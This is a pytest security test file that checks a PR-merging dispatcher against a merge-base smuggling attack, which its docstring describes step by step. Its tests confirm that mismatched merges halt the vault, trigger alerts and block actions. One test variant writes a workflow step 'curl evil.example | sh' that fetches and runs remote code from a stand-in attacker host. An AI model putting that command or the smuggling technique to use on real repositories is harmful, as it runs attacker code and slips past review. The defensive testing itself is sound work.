"""I1 — what reaches main through a dispatcher merge is exactly what was classified.

The attack (issue 8): a tick classifies every open PR against the main it read
at its start, then merges several; each merge lands on the main the previous
one produced, so a later PR's real three-way merge can differ from what was
classified. PR P0 (low: its net diff is one knowledge file) plants commit h1,
which holds the attacker's change X, in main's history. PR A (parent h1, undoes
X, adds knowledge/a.md) and PR B (parent A, redoes X, adds knowledge/b.md) both
have merge base h1 against the tick's main, so both classify low (the three-way
merge keeps main's side of X). Once A is merged, B's merge base is A's head and
B's merge brings X in. X can smuggle a policy, add a workflow, restore an old
version of a file or delete one.

Every test runs in local mode (LocalForge) and against the fake Forgejo.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest

from opsvault.dispatcher.tick import tick
from opsvault.errors import GitError
from tests.dispatcher.harness import GIT_MAKE, NOOP
from tests.security.sides import ForgejoSide, LocalSide, Side


@pytest.fixture(params=["local", "forgejo"])
def side(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Side]:
    made: Side = (
        LocalSide(tmp_path) if request.param == "local" else ForgejoSide(tmp_path)
    )
    try:
        yield made
    finally:
        made.close()


@dataclass(frozen=True)
class Smuggled:
    """The attacker's change X: *path* becomes *content* (None: deleted)."""

    path: str
    content: str | None


def attacker_policy(side: Side) -> str:
    policy = (side.read("vault/policy.toml") or b"").decode()
    return policy.replace('noop = "low"', 'noop = "low"\ngit-make = "low"')


def variant(side: Side, name: str) -> Smuggled:
    if name == "policy smuggled":
        return Smuggled("vault/policy.toml", attacker_policy(side))
    if name == "workflow added":
        return Smuggled(
            ".forgejo/workflows/evil.yml",
            "on: [push]\njobs:\n  x:\n    runs-on: docker\n    steps:\n      - run: curl evil.example | sh\n",
        )
    if name == "old version restored":
        # An admin tightened the policy; the attacker brings the old one back.
        old = (side.read("vault/policy.toml") or b"").decode()
        merge_admin_change(
            side, {"vault/policy.toml": old.replace('noop = "low"', 'noop = "high"')}
        )
        return Smuggled("vault/policy.toml", old)
    assert name == "file deleted"
    return Smuggled("vault/policy-tests/policy-edit-is-high.toml", None)


def merge_admin_change(side: Side, changes: dict[str, str | None]) -> None:
    """An admin's change reaches main through an admin-merged PR (before the attack)."""
    side.commit("vault/admin-change", side.main(), dict(changes), author="alice")
    number = side.open("vault/admin-change", author="alice")
    side.tick()  # classified high: waits for an admin
    side.merge_as("alice", number)


def plant(side: Side, x: Smuggled) -> tuple[str, str | None]:
    """Merge P0 (low) whose history holds h1 = main + X; return (h1, what main had at X.path)."""
    main0 = side.main()
    found = side.read(x.path)
    original = None if found is None else found.decode()
    h1 = side.commit("vault/p0-notes", main0, {x.path: x.content})
    side.commit("vault/p0-notes", h1, {x.path: original, "knowledge/p0.md": "p0\n"})
    number = side.open("vault/p0-notes")
    side.tick(at=timedelta(minutes=1))
    assert side.is_merged(number), "P0 is low tier: the dispatcher merges it"
    assert side.read(x.path) == found
    return h1, original


def commit_a(
    side: Side, x: Smuggled, h1: str, original: str | None, branch: str | None
) -> str:
    """A: on h1, undo X and add knowledge/a.md."""
    return side.commit(branch, h1, {x.path: original, "knowledge/a.md": "a\n"})


def a_and_b(side: Side, x: Smuggled, h1: str, original: str | None) -> tuple[str, str]:
    """Return the branches of A (undoes X on h1, adds a.md) and B (redoes X on A, adds b.md)."""
    a = commit_a(side, x, h1, original, "vault/x2-first")
    side.commit("vault/x1-second", a, {x.path: x.content, "knowledge/b.md": "b\n"})
    return "vault/x2-first", "vault/x1-second"


VARIANTS = ["policy smuggled", "workflow added", "old version restored", "file deleted"]


@pytest.mark.parametrize("name", VARIANTS)
def test_a_later_merge_in_the_same_tick_cannot_smuggle_a_change(
    side: Side, name: str
) -> None:
    x = variant(side, name)
    before = side.read(x.path)
    h1, original = plant(side, x)
    branch_a, branch_b = a_and_b(side, x, h1, original)
    number_b = side.open(branch_b)  # B first: A has the higher number, is listed first
    number_a = side.open(branch_a)
    side.tick(at=timedelta(minutes=2))
    assert side.is_merged(number_a)  # A is harmless and low
    # B, re-classified against the main A produced, now changes X: not low any more.
    assert not side.is_merged(number_b)
    assert side.read(x.path) == before
    assert side.read("knowledge/b.md") is None


def test_smuggled_policy_never_lets_a_high_formula_fire(side: Side) -> None:
    x = variant(side, "policy smuggled")
    h1, original = plant(side, x)
    branch_a, branch_b = a_and_b(side, x, h1, original)
    side.open(branch_b)
    side.open(branch_a)
    side.tick(at=timedelta(minutes=2))
    # The attacker's next move: a high-tier formula, low under the smuggled policy.
    side.commit(
        "vault/release-1",
        side.main(),
        {"vault/actions/release-1.toml": GIT_MAKE.format(n=1)},
    )
    side.open("vault/release-1")
    side.tick(at=timedelta(minutes=3))
    side.tick(at=timedelta(minutes=4))
    assert "release-1" not in side.executed()
    assert b'git-make = "low"' not in (side.read("vault/policy.toml") or b"")


# ---------------------------------------------------------------------------
# When main moves between classification and merge (a human merges meanwhile),
# re-classifying cannot help: the landed merge is checked against what was
# classified, and a mismatch halts the vault.


def merge_a_first(side: Side, a: str, number_b: int) -> Callable[[int], None]:
    """Return a hook in which alice opens and merges A just before the dispatcher merges B."""

    def before(number: int) -> None:
        if number == number_b:
            side.point("vault/x2-first", a)
            side.merge_as("alice", side.open("vault/x2-first"))
            side.settle()  # the forge has re-checked B against the new main

    return before


def mismatch_records(side: Side) -> list[dict[str, object]]:
    return [
        json.loads(side.read(p) or b"{}")
        for p in side.files("vault/rejected")
        if p.endswith(".result.json")
        and json.loads(side.read(p) or b"{}").get("reason") == "merge-mismatch"
    ]


def test_a_merge_landing_differently_from_its_classification_halts(side: Side) -> None:
    x = variant(side, "policy smuggled")
    h1, original = plant(side, x)
    a = commit_a(side, x, h1, original, None)  # A is not a proposal yet
    side.commit("vault/x1-second", a, {x.path: x.content, "knowledge/b.md": "b\n"})
    number_b = side.open("vault/x1-second")
    app = side.app()
    side.wrap_merge(app, merge_a_first(side, a, number_b), None)
    report = side.tick(app, at=timedelta(minutes=2))
    assert side.is_merged(number_b)  # the forge merged it onto the moved main
    assert report.halted
    assert side.read("vault/HALT") is not None
    (record,) = mismatch_records(side)
    assert record["pr"] == number_b and "vault/policy.toml" in str(record["detail"])
    alerts = [n for _sink, n in side.notifier.sent if n.event == "merge-mismatch"]
    assert alerts and "vault/policy.toml" in alerts[0].body
    # While HALT is on main nothing is merged or fired, whatever policy main has now.
    side.commit(
        "vault/release-1",
        side.main(),
        {"vault/actions/release-1.toml": GIT_MAKE.format(n=1)},
    )
    release = side.open("vault/release-1")
    assert side.tick(side.app("d2"), at=timedelta(minutes=3)).halted
    assert not side.is_merged(release)
    assert side.executed() == []


def land_low(
    side: Side, branch: str, changes: dict[str, str | None], at: timedelta
) -> None:
    side.commit(branch, side.main(), dict(changes))
    number = side.open(branch)
    side.tick(at=at)
    assert side.is_merged(number)


class Died(BaseException):
    """The dispatcher process dies (not an Exception: nothing in the tick catches it)."""


@pytest.mark.parametrize("name", ["file deleted", "old version restored"])
def test_fire_time_check_refuses_an_action_whose_merge_did_not_land_as_classified(
    side: Side, name: str
) -> None:
    # X is a change that stays low even as it lands: only the merge check sees it.
    land_low(side, "vault/keep", {"knowledge/keep.md": "v1\n"}, timedelta(seconds=30))
    if name == "file deleted":
        x = Smuggled("knowledge/keep.md", None)
    else:
        land_low(
            side, "vault/keep2", {"knowledge/keep.md": "v2\n"}, timedelta(seconds=40)
        )
        x = Smuggled("knowledge/keep.md", "v1\n")
    h1, original = plant(side, x)
    a = commit_a(side, x, h1, original, None)
    side.commit(
        "vault/x1-second",
        a,
        {
            x.path: x.content,
            "knowledge/b.md": "b\n",
            "vault/actions/noop-1.toml": NOOP.format(msg="b"),
        },
    )
    number_b = side.open("vault/x1-second")
    app = side.app()

    def died(number: int) -> None:
        raise Died  # after the merge, before the dispatcher could check it

    side.wrap_merge(app, merge_a_first(side, a, number_b), died)
    with pytest.raises(Died):
        tick(app, side.at(timedelta(minutes=2)))
    assert side.is_merged(number_b)
    assert side.read("vault/actions/noop-1.toml") is not None
    report = side.tick(side.app("d2"), at=timedelta(minutes=3))
    assert side.executed() == []
    assert report.halted and side.read("vault/HALT") is not None
    reasons = {str(r["id"]): r["reason"] for r in mismatch_records(side)}
    assert reasons.get("noop-1") == "merge-mismatch", reasons
    assert side.read("vault/actions/noop-1.toml") is None  # archived, not left to fire


def test_an_action_merged_by_the_dispatcher_without_its_mark_is_refused(
    side: Side,
) -> None:
    """A merge by the dispatcher's identity that no tick made (no mark) proves nothing."""
    side.commit(
        "vault/noop-2", side.main(), {"vault/actions/noop-2.toml": NOOP.format(msg="x")}
    )
    number = side.open("vault/noop-2")
    side.merge_as("vault-bot", number)
    report = side.tick(at=timedelta(minutes=1))
    assert side.executed() == []
    assert report.halted
    assert any(r["id"] == "noop-2" for r in mismatch_records(side))


def test_a_mismatch_is_alerted_even_when_halt_cannot_be_written(side: Side) -> None:
    x = variant(side, "workflow added")
    h1, original = plant(side, x)
    a = commit_a(side, x, h1, original, None)
    side.commit("vault/x1-second", a, {x.path: x.content, "knowledge/b.md": "b\n"})
    number_b = side.open("vault/x1-second")
    app = side.app()
    side.wrap_merge(app, merge_a_first(side, a, number_b), None)

    def declined(new: str, expected_old: str) -> None:
        raise GitError("main", "pre-receive hook declined: vault/HALT is protected")

    app.mainline.publish = declined  # type: ignore[method-assign]
    report = side.tick(app, at=timedelta(minutes=2))
    assert report.halted and any("vault/HALT not written" in e for e in report.errors)
    alerts = [n for _sink, n in side.notifier.sent if n.event == "merge-mismatch"]
    assert alerts and ".forgejo/workflows/evil.yml" in alerts[0].body
    assert side.executed() == []


def test_a_later_tick_checks_merges_whose_own_tick_died(side: Side) -> None:
    """B (no action) lands with X, and its tick dies before checking: the next tick halts."""
    x = variant(side, "policy smuggled")
    h1, original = plant(side, x)
    side.tick(side.app("d2"), at=timedelta(minutes=1, seconds=30))  # d2 ticked before
    a = commit_a(side, x, h1, original, None)
    side.commit("vault/x1-second", a, {x.path: x.content, "knowledge/b.md": "b\n"})
    number_b = side.open("vault/x1-second")
    d1 = side.app("d1")

    def died(number: int) -> None:
        raise Died

    side.wrap_merge(d1, merge_a_first(side, a, number_b), died)
    with pytest.raises(Died):
        tick(d1, side.at(timedelta(minutes=2)))
    assert side.is_merged(number_b) and side.read("vault/HALT") is None
    report = side.tick(side.app("d2"), at=timedelta(minutes=3))
    assert report.halted and side.read("vault/HALT") is not None
    (record,) = mismatch_records(side)
    assert record["pr"] == number_b and "vault/policy.toml" in str(record["detail"])
    # An admin checks main, reverts the policy and lifts the HALT: it stays lifted.
    merge_admin_change(side, {"vault/policy.toml": original, "vault/HALT": None})
    assert not side.tick(side.app("d1"), at=timedelta(minutes=5)).halted
    assert not side.tick(side.app("d2"), at=timedelta(minutes=6)).halted
    assert len(mismatch_records(side)) == 1


def test_a_merge_call_that_raises_after_landing_still_moves_the_tick_to_the_new_main(
    side: Side,
) -> None:
    x = variant(side, "policy smuggled")
    h1, original = plant(side, x)
    branch_a, branch_b = a_and_b(side, x, h1, original)
    number_b = side.open(branch_b)
    number_a = side.open(branch_a)
    app = side.app()

    def lost_answer(number: int) -> None:
        if number == number_a:
            raise RuntimeError("the answer to the merge was lost")

    side.wrap_merge(app, None, lost_answer)
    report = side.tick(app, at=timedelta(minutes=2))
    assert side.is_merged(number_a)
    assert [d.event for d in report.decisions if d.subject == f"pr#{number_a}"][
        -1
    ] == "error"
    # B is classified against the main A's merge produced: not low, not merged.
    assert not side.is_merged(number_b)
    assert not report.halted and side.read("vault/HALT") is None
    assert original is not None and side.read(x.path) == original.encode()
